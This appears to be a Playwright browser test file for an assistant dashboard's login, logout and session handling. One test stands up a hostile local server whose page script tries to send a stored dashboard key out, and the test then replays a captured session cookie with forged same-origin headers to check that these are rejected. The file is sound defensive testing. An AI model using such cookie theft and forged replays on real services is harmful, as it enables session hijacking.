// The dashboard in a real browser (Debian's Chromium through playwright-core): logging in, the login page's own
// accessibility, a page asked for before logging in, and no CSP violation anywhere along the way; and what a page
// served from another port of 127.0.0.1 gets of a login (the cookie, never the origin key: decision 0023).
import { createServer, type Server } from 'node:http';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  expectAccessible,
  followBootstrap,
  launchBrowser,
  openDashboard,
  screenshot,
  startAssistant,
} from './helpers/browser.ts';
import { tempDir } from './helpers/temp-dir.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe('dashboard login', () => {
  it('logs in with the token, keeps the page asked for, and logs out', async () => {
    await using dir = await tempDir();
    await using assistant = await startAssistant({ dir, serverOnly: true });
    const context = await browser.newContext({ baseURL: assistant.url });
    try {
      const page = await context.newPage();
      followBootstrap(page);
      const errors: string[] = [];
      page.on('console', (message) => {
        if (message.type() === 'error') errors.push(message.text());
      });
      await page.goto('/log');
      expect(new URL(page.url()).pathname).toBe('/login');
      await expectAccessible(page, 'the login page');
      await screenshot(page, 'login', 'light', dir.path);
      await page.getByLabel('Token').fill('not the token');
      await page.getByRole('button', { name: 'Log in' }).click();
      await expect.poll(() => page.getByRole('alert').filter({ hasText: 'not this install' }).count()).toBe(1);
      await page.getByLabel('Token').fill(assistant.token);
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.waitForURL((url) => url.pathname === '/log');
      const cookies = await context.cookies();
      expect(cookies.find((cookie) => cookie.name === 'assistant_session')).toMatchObject({
        httpOnly: true,
        sameSite: 'Strict',
      });
      await page.getByRole('button', { name: 'Log out' }).click();
      await page.waitForURL((url) => url.pathname === '/login');
      await page.goto('/');
      expect(new URL(page.url()).pathname).toBe('/login');
      // The wrong token's answer is a 401 page, which the browser reports; nothing else may fail.
      expect(errors).toEqual(['Failed to load resource: the server responded with a status of 401 (Unauthorized)']);
    } finally {
      await context.close();
    }
  });

  it('opens a logged-in session for the other tests', async () => {
    await using dir = await tempDir();
    await using assistant = await startAssistant({ dir, serverOnly: true });
    await using dashboard = await openDashboard(browser, assistant, { colorScheme: 'dark' });
    await expect.poll(() => dashboard.page.locator('#live-status').textContent()).toBe('live');
    expect(dashboard.consoleErrors).toEqual([]);
  });

  it('gives a page on another port the cookie but not the key: its replay gets no data, no token, no write', async () => {
    await using dir = await tempDir();
    await using assistant = await startAssistant({ dir, serverOnly: true });
    await using dashboard = await openDashboard(browser, assistant);
    const { page } = dashboard;
    // Another local user's server on another port: it records the cookies the browser sends it, serves a page that
    // looks for the key in its own storage, and tosses a junk cookie of our name onto /approvals.
    const seen: { cookie?: string; stored?: string } = {};
    const other: Server = createServer((request, response) => {
      if (request.url?.startsWith('/report?')) {
        seen.stored = new URL(request.url, 'http://x').searchParams.get('stored') ?? '';
        response.end('ok');
        return;
      }
      if (request.headers.cookie !== undefined) seen.cookie = request.headers.cookie;
      response.setHeader('set-cookie', 'assistant_session=junk; Path=/approvals; HttpOnly');
      response.setHeader('content-type', 'text/html');
      response.end(
        `<!doctype html><title>other</title><script>fetch('/report?stored=' + encodeURIComponent(String(localStorage.getItem('assistant-dashboard-key'))))</script>`,
      );
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    try {
      const address = other.address();
      const otherPort = typeof address === 'object' && address ? address.port : 0;
      const visitor = await dashboard.context.newPage();
      await visitor.goto(`http://127.0.0.1:${otherPort}/`);
      await expect.poll(() => seen.stored, { timeout: 10_000 }).toBe('null');
      await visitor.close();
      // Cookies ignore ports: the other server got the login cookie.
      expect(seen.cookie).toMatch(/assistant_session=v1\./);
      const cookie = seen.cookie ?? '';
      // It replays it with every header a same-origin browser request would carry.
      const forged = {
        cookie,
        origin: assistant.url,
        'sec-fetch-site': 'same-origin',
        'sec-fetch-mode': 'navigate',
        'sec-fetch-dest': 'document',
      };
      const replayed = await fetch(`${assistant.url}/config`, { headers: forged, signal: AbortSignal.timeout(10_000) });
      const text = await replayed.text();
      expect(text).toContain('data-assistant-session="load"');
      expect(text).not.toContain('_csrf');
      expect(text).not.toContain('x-csrf-token');
      expect(text).not.toContain('stream_token');
      const fragment = await fetch(`${assistant.url}/config`, {
        headers: { ...forged, 'hx-request': 'true' },
        signal: AbortSignal.timeout(10_000),
      });
      expect(fragment.status).toBe(401);
      const live = await fetch(`${assistant.url}/live?topics=log`, {
        headers: { ...forged, accept: 'text/event-stream' },
        signal: AbortSignal.timeout(10_000),
      });
      expect(live.status).toBe(401);
      const logout = await fetch(`${assistant.url}/logout`, {
        method: 'POST',
        headers: { ...forged, 'content-type': 'application/x-www-form-urlencoded' },
        body: '_csrf=guess',
        redirect: 'manual',
        signal: AbortSignal.timeout(10_000),
      });
      expect(logout.status).toBe(403);

      // The owner's tab goes on: pages, the live stream, and /approvals despite the junk cookie tossed onto it.
      const ours = (await dashboard.context.cookies()).filter((entry) => entry.name === 'assistant_session');
      expect(ours.map((entry) => entry.path).sort()).toEqual(['/', '/approvals']);
      await page.goto('/approvals');
      expect(new URL(page.url()).pathname).toBe('/approvals');
      await expect.poll(() => page.locator('#live-status').textContent(), { timeout: 10_000 }).toBe('live');
      expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Approvals');
      await page.getByRole('link', { name: 'Log', exact: true }).click();
      await page.waitForURL((url) => url.pathname === '/log');
      await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('Log');
      await page.goBack();
      expect(new URL(page.url()).pathname).toBe('/approvals');
      await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('Approvals');
      expect(dashboard.consoleErrors).toEqual([]);
    } finally {
      await new Promise((resolve) => other.close(resolve));
    }
  });
});
